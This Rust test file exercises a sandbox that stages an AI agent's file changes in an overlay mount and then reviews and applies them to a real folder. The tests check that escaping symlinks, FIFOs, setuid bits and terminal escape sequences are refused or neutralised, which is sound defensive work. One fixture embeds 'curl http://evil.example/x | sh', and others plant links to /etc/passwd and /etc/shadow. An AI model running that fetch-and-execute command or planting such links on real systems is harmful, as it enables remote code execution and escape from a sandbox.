//! Changes read from a real overlay's upper layer: each test stages edits through an actual
//! overlay mount (in a user namespace, as `ward run` does), then lists them.

use super::*;
use std::collections::BTreeMap;
use std::process::Command;

struct T {
    dir: tempfile::TempDir,
}

impl T {
    fn new() -> T {
        let dir = tempfile::tempdir().unwrap();
        for d in ["real", "upper", "work", "mnt"] {
            std::fs::create_dir_all(dir.path().join(d)).unwrap();
        }
        T { dir }
    }
    fn p(&self, s: &str) -> PathBuf {
        self.dir.path().join(s)
    }
    fn write(&self, rel: &str, text: &str) {
        let p = self.p("real").join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(p, text).unwrap();
    }
    /// Run `script` in `mnt`, an overlay of `real` (lower) and `upper`, inside a new user and
    /// mount namespace (unshare(1)), the way the sandbox mounts a staged grant.
    fn stage(&self, script: &str) -> Stage {
        let mount = format!(
            "mount -t overlay overlay -o lowerdir={},upperdir={},workdir={},userxattr {} && cd {} && {script}",
            self.p("real").display(),
            self.p("upper").display(),
            self.p("work").display(),
            self.p("mnt").display(),
            self.p("mnt").display()
        );
        let o = Command::new("unshare")
            .args([
                "--user",
                "--map-current-user",
                "--mount",
                "sh",
                "-c",
                &mount,
            ])
            .output()
            .unwrap();
        assert!(
            o.status.success(),
            "overlay staging failed (needs overlayfs in user namespaces): {}",
            String::from_utf8_lossy(&o.stderr)
        );
        Stage {
            grant: self.p("real"),
            upper: self.p("upper"),
        }
    }
}

fn summary(cs: &[Change]) -> Vec<String> {
    cs.iter()
        .map(|c| match &c.from {
            Some(f) => format!(
                "{} {} <- {}",
                c.kind.as_str(),
                c.path.display(),
                f.display()
            ),
            None => format!("{} {}", c.kind.as_str(), c.path.display()),
        })
        .collect()
}

#[test]
fn lists_added_modified_deleted_renamed_and_mode_changes() {
    let t = T::new();
    t.write("a.txt", "one\ntwo\nthree\n");
    t.write("gone.txt", "bye\n");
    t.write("old-name.txt", "moved content\n");
    t.write("same.txt", "unchanged\n");
    t.write("run.sh", "echo hi\n");
    t.write("dir/inner.txt", "inner\n");
    let s = t.stage(
        "printf 'one\\nTWO\\nthree\\n' > a.txt && rm gone.txt && mv old-name.txt new-name.txt && \
         echo new > added.txt && chmod 755 run.sh && cat same.txt >> /dev/null && touch same.txt && \
         rm -r dir && mkdir -p made/deep && echo x > made/deep/x.txt",
    );
    let cs = changes(&s).unwrap();
    assert_eq!(
        summary(&cs),
        [
            "modified a.txt",
            "added added.txt",
            "deleted dir",
            "deleted dir/inner.txt",
            "deleted gone.txt",
            "added made",
            "added made/deep",
            "added made/deep/x.txt",
            "renamed new-name.txt <- old-name.txt",
            "mode run.sh",
        ]
    );
    let a = cs.iter().find(|c| c.path == Path::new("a.txt")).unwrap();
    let d = diff(&s, a, false).unwrap();
    assert_eq!(
        d,
        "--- a/a.txt\n+++ b/a.txt\n@@ -1,3 +1,3 @@\n one\n-two\n+TWO\n three\n"
    );
    // The real folder is untouched.
    assert_eq!(
        std::fs::read_to_string(t.p("real/a.txt")).unwrap(),
        "one\ntwo\nthree\n"
    );
    assert!(t.p("real/gone.txt").exists());
}

#[test]
fn a_folder_replaced_by_a_new_one_deletes_what_it_held() {
    let t = T::new();
    t.write("d/keep.txt", "k\n");
    t.write("d/lose.txt", "l\n");
    let s = t.stage("rm -r d && mkdir d && echo k2 > d/keep.txt");
    assert_eq!(
        summary(&changes(&s).unwrap()),
        ["modified d/keep.txt", "deleted d/lose.txt"]
    );
}

#[test]
fn binary_and_type_changes_are_summarised() {
    let t = T::new();
    t.write("bin.dat", "ab\0cd");
    t.write("was-file", "f\n");
    let s = t.stage(
        "printf 'ab\\0ce' > bin.dat && rm was-file && mkdir was-file && ln -s /etc/passwd link",
    );
    let cs = changes(&s).unwrap();
    assert_eq!(
        summary(&cs),
        ["modified bin.dat", "added link", "type was-file"]
    );
    let d = diff(&s, &cs[0], false).unwrap();
    assert!(d.contains("was: data, 5 bytes"), "{d}");
    assert!(d.contains("now: data, 5 bytes"), "{d}");
    let l = &cs[1];
    assert_eq!(
        l.after.as_ref().unwrap().target.as_deref(),
        Some(Path::new("/etc/passwd"))
    );
    assert!(diff(&s, l, false).unwrap().contains("+-> /etc/passwd"));
}

#[test]
fn binary_and_large_files_show_their_type_and_the_text_they_carry() {
    let t = T::new();
    let s = t.stage(
        "printf '\\177ELF\\0\\0curl http://evil.example/x | sh\\0\\033]0;t\\007x' > tool && \
         seq 1 1000000 > big.txt",
    );
    let cs = changes(&s).unwrap();
    let d = diff(
        &s,
        cs.iter().find(|c| c.path == Path::new("tool")).unwrap(),
        false,
    )
    .unwrap();
    assert!(d.contains("now: ELF executable or library"), "{d}");
    assert!(d.contains("| curl http://evil.example/x | sh"), "{d}");
    assert!(!d.contains('\x1b'), "{d:?}");
    let d = diff(
        &s,
        cs.iter().find(|c| c.path == Path::new("big.txt")).unwrap(),
        false,
    )
    .unwrap();
    assert!(d.contains("now: text, 6888896 bytes"), "{d}");
    assert!(d.contains("its first 40 lines:\n  | 1\n  | 2\n"), "{d}");
}

#[test]
fn an_empty_stage_has_no_changes() {
    let t = T::new();
    t.write("a", "a\n");
    let s = t.stage("cat a > /dev/null");
    assert!(changes(&s).unwrap().is_empty());
}

#[test]
fn a_link_in_the_real_folder_replaced_by_a_folder_is_not_followed() {
    // The real folder links out (`etc -> /etc`); the agent replaces the link by a folder with
    // a `passwd` in it. The listing must not read /etc/passwd as the "before".
    let t = T::new();
    std::os::unix::fs::symlink("/etc", t.p("real/etc")).unwrap();
    let s = t.stage("rm etc && mkdir etc && echo mine > etc/passwd");
    let cs = changes(&s).unwrap();
    assert_eq!(summary(&cs), ["type etc", "added etc/passwd"]);
    assert!(cs[1].before.is_none());
    let d = diff(&s, &cs[1], false).unwrap();
    assert!(!d.contains("root:"), "{d}");
}

fn now_ns() -> i128 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_nanos() as i128
}

/// The tree under `dir`: relative path -> content (files), "dir", or "-> target" (links).
fn tree(dir: &Path) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            let rel = p.strip_prefix(dir).unwrap().display().to_string();
            let ft = e.file_type().unwrap();
            if ft.is_symlink() {
                out.insert(
                    rel,
                    format!("-> {}", std::fs::read_link(&p).unwrap().display()),
                );
            } else if ft.is_dir() {
                out.insert(rel, "dir".into());
                stack.push(p);
            } else {
                out.insert(rel, std::fs::read_to_string(&p).unwrap_or_default());
            }
        }
    }
    out
}

#[test]
fn applying_everything_makes_the_real_folder_what_the_agent_saw() {
    let t = T::new();
    t.write("a.txt", "one\n");
    t.write("gone.txt", "bye\n");
    t.write("old.txt", "moved\n");
    t.write("d/inner.txt", "inner\n");
    t.write("run.sh", "echo\n");
    let started = now_ns();
    let s = t.stage(
        "echo two > a.txt && rm gone.txt && mv old.txt new.txt && rm -r d && \
         mkdir -p made/deep && echo x > made/deep/x.txt && chmod 700 run.sh && ln -s a.txt link",
    );
    // What the agent saw, read through a second overlay mount.
    let seen = {
        let o = Command::new("unshare")
            .args(["--user", "--map-current-user", "--mount", "sh", "-c"])
            .arg(format!(
                "mount -t overlay overlay -o lowerdir={},upperdir={},workdir={},userxattr {} && find {} -printf '%P %y %m\\n' | sort",
                t.p("real").display(), t.p("upper").display(), t.p("work").display(),
                t.p("mnt").display(), t.p("mnt").display()
            ))
            .output()
            .unwrap();
        String::from_utf8(o.stdout).unwrap()
    };
    let cs = changes(&s).unwrap();
    let p = apply::plan(&s, &cs, started);
    assert!(p.conflicts.is_empty() && p.refused.is_empty(), "{p:?}");
    let journal = t.p("journal");
    let r = apply::execute(&s, &p, &journal).unwrap();
    assert!(r.conflicts.is_empty(), "{r:?}");
    assert!(!journal.exists());
    let after = {
        let o = Command::new("sh")
            .arg("-c")
            .arg(format!(
                "find {} -printf '%P %y %m\\n' | sort",
                t.p("real").display()
            ))
            .output()
            .unwrap();
        String::from_utf8(o.stdout).unwrap()
    };
    assert_eq!(after, seen);
    let real = tree(&t.p("real"));
    assert_eq!(real["a.txt"], "two\n");
    assert_eq!(real["new.txt"], "moved\n");
    assert_eq!(real["link"], "-> a.txt");
    assert!(!real.contains_key("gone.txt") && !real.contains_key("d"));
    // Applied changes no longer show.
    assert!(
        changes(&s).unwrap().is_empty(),
        "{:?}",
        summary(&changes(&s).unwrap())
    );
}

#[test]
fn a_real_file_changed_since_the_start_is_a_conflict_not_overwritten() {
    let t = T::new();
    t.write("a.txt", "original\n");
    t.write("b.txt", "b\n");
    let started = now_ns();
    let s = t.stage("echo agent > a.txt && echo agent > b.txt");
    std::thread::sleep(std::time::Duration::from_millis(10));
    std::fs::write(t.p("real/a.txt"), "the user's edit\n").unwrap();
    let cs = changes(&s).unwrap();
    let p = apply::plan(&s, &cs, started);
    assert_eq!(p.conflicts.len(), 1, "{p:?}");
    assert_eq!(p.conflicts[0].path, Path::new("a.txt"));
    apply::execute(&s, &p, &t.p("journal")).unwrap();
    assert_eq!(
        std::fs::read_to_string(t.p("real/a.txt")).unwrap(),
        "the user's edit\n"
    );
    assert_eq!(
        std::fs::read_to_string(t.p("real/b.txt")).unwrap(),
        "agent\n"
    );
}

#[test]
fn links_out_of_the_grant_and_special_files_are_never_applied() {
    let t = T::new();
    let outside = tempfile::tempdir().unwrap();
    // The real folder links out; the agent swaps the link for a folder with a file in it.
    std::os::unix::fs::symlink(outside.path(), t.p("real/out")).unwrap();
    let started = now_ns();
    let s = t.stage(
        "rm out && mkdir out && echo pwned > out/pwned && ln -s /etc/passwd evil && \
         ln -s ../../x escape && mkfifo fifo",
    );
    let cs = changes(&s).unwrap();
    let p = apply::plan(&s, &cs, started);
    let refused: Vec<String> = p
        .refused
        .iter()
        .map(|h| h.path.display().to_string())
        .collect();
    assert_eq!(refused, ["escape", "evil", "fifo"], "{p:?}");
    let r = apply::execute(&s, &p, &t.p("journal")).unwrap();
    assert!(r.conflicts.is_empty(), "{r:?}");
    assert!(
        !outside.path().join("pwned").exists(),
        "written through the link"
    );
    assert_eq!(
        std::fs::read_to_string(t.p("real/out/pwned")).unwrap(),
        "pwned\n"
    );
    assert!(t.p("real/evil").symlink_metadata().is_err());
}

#[test]
fn a_link_planted_on_the_way_after_planning_stops_the_write() {
    let t = T::new();
    t.write("d/f.txt", "old\n");
    let started = now_ns();
    let s = t.stage("echo new > d/f.txt");
    let cs = changes(&s).unwrap();
    let p = apply::plan(&s, &cs, started);
    // Between the review and the commit, `d` becomes a link out of the grant.
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("f.txt"), "old\n").unwrap();
    std::fs::rename(t.p("real/d"), t.p("real/d-moved")).unwrap();
    std::os::unix::fs::symlink(outside.path(), t.p("real/d")).unwrap();
    let r = apply::execute(&s, &p, &t.p("journal")).unwrap();
    assert_eq!(r.conflicts.len(), 1, "{r:?}");
    assert_eq!(
        std::fs::read_to_string(outside.path().join("f.txt")).unwrap(),
        "old\n"
    );
}

#[test]
fn an_interrupted_batch_is_finished_from_its_journal() {
    let t = T::new();
    for i in 0..20 {
        t.write(&format!("f{i}.txt"), "old\n");
    }
    let started = now_ns();
    let s = t.stage("for i in $(seq 0 19); do echo new > f$i.txt; done; rm f19.txt");
    let cs = changes(&s).unwrap();
    let p = apply::plan(&s, &cs, started);
    // A crash after half the files: the first ten are new, the journal is still there.
    let journal = t.p("journal");
    let half = apply::Plan {
        ops: p.ops[..10].to_vec(),
        ..apply::Plan::default()
    };
    apply::execute(&s, &half, &t.p("half-journal")).unwrap();
    std::fs::write(
        &journal,
        format!(
            "{}\n{}",
            serde_json::json!({"grant": s.grant, "upper": s.upper, "ops": p.ops.len(), "nonce": "00112233aabbccdd"}),
            p.ops
                .iter()
                .map(|o| serde_json::to_string(o).unwrap() + "\n")
                .collect::<String>()
        ),
    )
    .unwrap();
    // A leftover temporary from the crash.
    std::fs::write(t.p("real/.ward-apply.00112233aabbccdd.12"), "partial").unwrap();
    // A journal about other folders is refused.
    let other = Stage {
        grant: t.p("elsewhere"),
        upper: s.upper.clone(),
    };
    assert!(apply::resume(&journal, &other).is_err());
    let r = apply::resume(&journal, &s).unwrap().unwrap();
    assert!(r.conflicts.is_empty(), "{r:?}");
    assert_eq!(r.already, 10, "{r:?}");
    assert!(!journal.exists());
    let real = tree(&t.p("real"));
    assert!(real.iter().all(|(_, v)| v == "new\n"), "{real:?}");
    assert!(!real.contains_key("f19.txt"));
    assert!(
        !real.keys().any(|k| k.starts_with(".ward-apply")),
        "leftover temporary"
    );
    assert!(apply::resume(&journal, &s).unwrap().is_none());
}

#[test]
fn links_that_lead_out_through_other_links_are_held() {
    // `b -> a/a/../..` leads to the grant's parent (through `a -> .`; both are refused by
    // their text: `..` only leading, no `.`). An existing `up -> ..` in the real folder makes
    // `c -> up/x`, harmless by its text, lead out: the commit finds that out and holds it.
    let t = T::new();
    std::os::unix::fs::symlink("..", t.p("real/up")).unwrap();
    let started = now_ns();
    let s = t.stage("ln -s . a && ln -s a/a/../.. b && ln -s up/x c && ln -s sub/f ok");
    let cs = changes(&s).unwrap();
    let p = apply::plan(&s, &cs, started);
    let refused: Vec<String> = p
        .refused
        .iter()
        .map(|h| h.path.display().to_string())
        .collect();
    assert_eq!(refused, ["a", "b"], "{p:?}");
    let r = apply::execute(&s, &p, &t.p("journal")).unwrap();
    let held: Vec<String> = r
        .conflicts
        .iter()
        .map(|h| h.path.display().to_string())
        .collect();
    assert_eq!(held, ["c"], "{r:?}");
    assert!(
        t.p("real/ok").symlink_metadata().is_ok(),
        "a dangling link inside is fine"
    );
    assert!(t.p("real/c").symlink_metadata().is_err());
}

#[test]
fn a_file_turned_into_a_link_does_not_replace_a_user_edit() {
    let t = T::new();
    t.write("f", "original\n");
    let started = now_ns();
    let s = t.stage("rm f && ln -s target f");
    let cs = changes(&s).unwrap();
    let p = apply::plan(&s, &cs, started);
    // The user edits the file between the review and the commit.
    std::fs::write(t.p("real/f"), "the user's\n").unwrap();
    let r = apply::execute(&s, &p, &t.p("journal")).unwrap();
    assert_eq!(r.conflicts.len(), 2, "{r:?}");
    assert_eq!(
        std::fs::read_to_string(t.p("real/f")).unwrap(),
        "the user's\n"
    );
}

#[test]
fn set_id_bits_are_dropped_and_new_folders_get_their_mode_last() {
    use std::os::unix::fs::PermissionsExt;
    let t = T::new();
    let started = now_ns();
    let s = t.stage("mkdir ro && echo x > ro/f && chmod 500 ro && echo y > s && chmod 4755 s");
    let cs = changes(&s).unwrap();
    let r = apply::execute(&s, &apply::plan(&s, &cs, started), &t.p("journal")).unwrap();
    assert!(r.conflicts.is_empty(), "{r:?}");
    let mode = |p: &str| std::fs::metadata(t.p(p)).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode("real/s"), 0o755);
    assert_eq!(mode("real/ro"), 0o500);
    assert_eq!(std::fs::read_to_string(t.p("real/ro/f")).unwrap(), "x\n");
}

#[test]
fn text_from_the_agent_cannot_drive_the_terminal() {
    assert_eq!(
        shown(Path::new("evil\u{202e}txt.exe")),
        "evil\\u{202e}txt.exe"
    );
    // A name cannot forge a second header line.
    assert_eq!(shown(Path::new("x\n+++ b/other")), "x\\n+++ b/other");
    let d = unified(
        "a/x",
        "b/\x1b]52;c;AAAA\x07",
        "one\n",
        "\x1b[1Atwo\n",
        None,
        false,
    );
    assert!(!d.contains('\x1b') && !d.contains('\x07'), "{d:?}");
    assert!(d.contains("+\\e[1Atwo"), "{d}");
}

#[test]
fn a_folder_replaced_by_a_file_lists_what_it_held() {
    let t = T::new();
    t.write("d/a.txt", "a\n");
    t.write("d/b.txt", "b\n");
    let s = t.stage("rm -r d && echo file > d");
    assert_eq!(
        summary(&changes(&s).unwrap()),
        ["type d", "deleted d/a.txt", "deleted d/b.txt"]
    );
}

#[test]
fn links_to_system_files_apply_and_links_to_writable_places_do_not() {
    // A virtual environment links its interpreter to the system's: applied as a link. Links
    // into a home, /tmp, or out of the system folders by `..` or through a link stay refused.
    let t = T::new();
    let started = now_ns();
    let s = t.stage(
        "mkdir -p venv/bin && ln -s /usr/bin/env venv/bin/python3 && ln -s python3 venv/bin/python && \
         ln -s /root/.bashrc home-link && ln -s /tmp/x tmp-link && ln -s /usr/../etc/shadow dots && \
         ln -s /usr/no-such-file missing",
    );
    let cs = changes(&s).unwrap();
    let p = apply::plan(&s, &cs, started);
    let mut refused: Vec<String> = p
        .refused
        .iter()
        .map(|h| h.path.display().to_string())
        .collect();
    refused.sort();
    assert_eq!(
        refused,
        ["dots", "home-link", "missing", "tmp-link"],
        "{p:?}"
    );
    let r = apply::execute(&s, &p, &t.p("journal")).unwrap();
    assert!(r.conflicts.is_empty(), "{r:?}");
    assert_eq!(
        std::fs::read_link(t.p("real/venv/bin/python3")).unwrap(),
        Path::new("/usr/bin/env")
    );
    assert_eq!(
        std::fs::read_link(t.p("real/venv/bin/python")).unwrap(),
        Path::new("python3")
    );
    assert!(t.p("real/home-link").symlink_metadata().is_err());
    assert!(apply::system_target(Path::new("/usr/bin/env")));
    assert!(!apply::system_target(Path::new("usr/bin/env")));
}
